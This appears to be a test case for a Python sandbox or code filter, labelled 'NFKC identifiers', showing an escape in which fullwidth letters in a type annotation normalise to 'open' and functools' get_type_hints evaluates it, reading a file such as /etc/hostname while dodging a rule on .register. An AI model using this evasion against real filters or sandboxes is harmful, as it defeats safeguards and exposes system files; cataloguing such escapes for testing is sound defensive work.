# family: NFKC identifiers
# escape: the payload is a runtime string written with fullwidth letters ("ｏｐｅｎ"), which eval() normalises to
# open; register(cls=f) escapes the .register rule, so get_type_hints eval()s it and the file is read.
from functools import singledispatch

@singledispatch
def handle(value):
    return value

def tool(path: str = "/etc/hostname"):
    code = "print(ｏｐｅｎ(%r).read()) or ｉｎｔ" % path
    def handler(value: code):
        return value
    handle.register(cls=handler)
    return handle(1)
